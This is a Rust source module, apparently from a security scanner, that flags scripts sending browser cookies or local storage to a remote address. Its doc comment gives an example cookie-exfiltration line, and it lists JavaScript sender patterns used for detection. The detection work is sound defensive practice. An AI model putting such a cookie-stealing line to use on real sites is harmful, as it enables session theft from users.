//! Scripts that send what a browser keeps: `fetch('//host/?' + document.cookie)`.

use crate::finding::Span;
use crate::pace::Pace;

/// What a browser keeps for a page, and what is read of its own.
const KEPT: [&[u8]; 3] = [b"document.cookie", b"localStorage", b"sessionStorage"];
/// How far before it the address and the call may stand, in bytes of the same line.
const BEFORE: usize = 240;
/// What sends: calls, and properties that load what is given to them.
const SENDERS: [&str; 12] = [
    "fetch(",
    "sendBeacon(",
    ".src=",
    ".src =",
    "location=",
    "location =",
    "location.href",
    "window.open(",
    ".open(",
    "$.get(",
    "$.post(",
    "axios.",
];

/// Calls `found` with each place where one is sent to an address.
pub(super) fn find(text: &str, pace: &Pace<'_>, mut found: impl FnMut(Span)) {
    for kept in KEPT {
        let places = memchr::memmem::find_iter(text.as_bytes(), kept);
        for at in places.take_while(|_| pace.step()) {
            let from = text.ceil_char_boundary(at.saturating_sub(BEFORE));
            let line = text[from..at].rsplit('\n').next().unwrap_or_default();
            let sender = SENDERS.iter().filter_map(|sender| line.rfind(sender)).max();
            let Some(sender) = sender else { continue };
            let between = &line[sender..];
            let addressed = between.contains("//") && !between.contains(';');
            if addressed {
                found(Span::new(at - between.len(), at + kept.len()));
            }
        }
    }
}
